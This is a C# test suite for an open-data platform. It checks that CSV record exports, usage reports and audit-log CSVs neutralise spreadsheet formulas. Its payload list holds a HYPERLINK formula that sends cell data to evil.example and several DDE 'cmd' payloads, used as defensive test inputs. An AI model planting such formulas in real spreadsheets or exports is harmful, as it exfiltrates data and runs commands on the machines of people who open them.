using System.Net;
using System.Text;
using OpenData.Tests.Infrastructure;

namespace OpenData.Tests.Hosting;

/// <summary>
/// Issue 13 item 11, as the attack: a publisher (or anyone whose text reaches a CSV) plants spreadsheet formulas; whoever
/// opens the records, an export, the usage report or the audit trail in Excel must see text, never run a formula.
/// </summary>
public sealed class CsvInjectionTests
{
    private const string Dataset = "formulas";

    /// <summary>Formulas as OWASP lists them: a HYPERLINK that sends a neighbouring cell away, DDE, and every starting character.</summary>
    private static readonly string[] Planted =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A2,\"Click for details\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "plain text",
    ];

    private static async Task<PlatformHost> PublishFormulasAsync(string db)
    {
        var host = await PlatformHost.StartAsync(db);
        var owner = host.Owner();
        await host.CreateDatasetAsync(owner, Dataset, "open", ("label", "string"), ("amount", "integer"), ("price", "decimal"));
        var csv = new StringBuilder("label,amount,price\n");
        for (var i = 0; i < Planted.Length; i++)
        {
            csv.Append('"').Append(Planted[i].Replace("\"", "\"\"", StringComparison.Ordinal)).Append("\",").Append(-5 - i).Append(",-1.5\n");
        }
        var job = await host.UploadAsync(owner, Dataset, csv.ToString());
        Assert.Equal("succeeded", job.GetProperty("status").GetString());
        return host;
    }

    [DatabaseTheory, OnEachDatabase]
    public async Task Planted_formulas_come_back_as_text_in_records_and_exports_and_raw_only_when_asked(string db)
    {
        await using var host = await PublishFormulasAsync(db);
        var client = host.Anonymous();
        // JSON is not a spreadsheet format: the values stay as published.
        var page = await PlatformHost.ReadJsonAsync(await client.GetAsync($"/v1/datasets/{Dataset}/records?limit=100"));
        var labels = page["items"]!.AsArray().Select(i => i!["label"]!.GetValue<string>()).ToList();
        Assert.Equal(Planted, labels);

        foreach (var url in new[] { $"/v1/datasets/{Dataset}/records?limit=100&format=csv", $"/v1/datasets/{Dataset}/export?format=csv" })
        {
            var response = await client.GetAsync(url);
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            var rows = Csv.Parse(await response.Content.ReadAsStringAsync());
            Assert.Equal(["label", "amount", "price"], rows[0]);
            for (var i = 0; i < Planted.Length; i++)
            {
                var label = rows[i + 1][0];
                Assert.False(StartsFormula(label), $"{url}: '{label}' would run as a formula");
                Assert.Equal(StartsFormula(Planted[i]) ? "'" + Planted[i] : Planted[i], label);
                // Numbers are data, not text: a negative amount stays a number a spreadsheet can add up.
                Assert.Equal((-5 - i).ToString(System.Globalization.CultureInfo.InvariantCulture), rows[i + 1][1]);
                Assert.Equal("-1.5", rows[i + 1][2]);
            }
            // The defused cell is quoted on the wire, as OWASP asks, so no reader splits it.
            Assert.Contains("\"'=cmd|' /C calc'!A0\"", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);

            var raw = Csv.Parse(await client.GetStringAsync(url + "&csv_raw=true"));
            Assert.Equal(Planted, raw.Skip(1).Select(r => r[0]));
            Assert.Equal(rows, Csv.Parse(await client.GetStringAsync(url + "&csv_raw=false")));
            var bad = await ProblemAssert.IsProblemAsync(await client.GetAsync(url + "&csv_raw=perhaps"), HttpStatusCode.BadRequest, "request.invalid");
            Assert.Contains("csv_raw", bad["detail"]!.GetValue<string>(), StringComparison.Ordinal);
        }
    }

    [DatabaseTheory, OnEachDatabase]
    public async Task Usage_and_audit_CSV_defuse_what_reaches_them_and_take_the_same_switch(string db)
    {
        await using var host = await PublishFormulasAsync(db);
        // Text in the trail that a spreadsheet would run: the subject of an entry (as an event naming a person or a
        // file would carry it). Planted far beyond the head, so the platform's own appends (the test's callers' apps are
        // registered, and audited, on first use) go on below it.
        await host.ExecuteSqlAsync(
            "INSERT INTO audit_log (seq, at, type, actor_tenant, actor_app, dataset_id, owner_id, subject, details, prev_hash, hash) " +
            $"VALUES ((SELECT COALESCE(MAX(seq), 0) + 1000000 FROM audit_log), '2026-01-01T00:00:00Z', 'test.planted', 'platform', NULL, NULL, NULL, '{Planted[0].Replace("'", "''", StringComparison.Ordinal)}', '{{}}', 'x', 'y')");
        var operatorClient = AccessScenarios.Platform(host);
        var audit = await operatorClient.GetAsync("/v1/audit?format=csv");
        Assert.Equal(HttpStatusCode.OK, audit.StatusCode);
        Assert.Equal("text/csv", audit.Content.Headers.ContentType?.MediaType);
        var entries = Csv.Parse(await audit.Content.ReadAsStringAsync());
        Assert.Equal("subject", entries[0][7]);
        Assert.All(entries.Skip(1).SelectMany(r => r), cell => Assert.False(StartsFormula(cell), $"'{cell}' would run as a formula"));
        Assert.Contains(entries, r => r[7] == "'" + Planted[0]);
        Assert.Contains(Csv.Parse(await operatorClient.GetStringAsync("/v1/audit?format=csv&csv_raw=true")), r => r[7] == Planted[0]);
        await ProblemAssert.IsProblemAsync(await operatorClient.GetAsync("/v1/audit?format=csv&csv_raw=2"), HttpStatusCode.BadRequest, "request.invalid");

        var reader = host.As("spreadsheet-user", "catalogue:read", "records:read");
        Assert.Equal(HttpStatusCode.OK, (await reader.GetAsync($"/v1/datasets/{Dataset}/records?limit=2")).StatusCode);
        var usage = Csv.Parse(await reader.GetStringAsync("/v1/usage?format=csv"));
        Assert.Equal("day,dataset,app,requests,rows,bytes,errors,throttled", string.Join(',', usage[0]));
        Assert.Contains(usage, r => r[1] == Dataset);
        Assert.All(usage.Skip(1).SelectMany(r => r.Skip(1).Take(2)), cell => Assert.False(StartsFormula(cell)));
        await ProblemAssert.IsProblemAsync(await reader.GetAsync("/v1/usage?format=csv&csv_raw=yes"), HttpStatusCode.BadRequest, "request.invalid");
    }

    private static bool StartsFormula(string cell) => cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal);
}
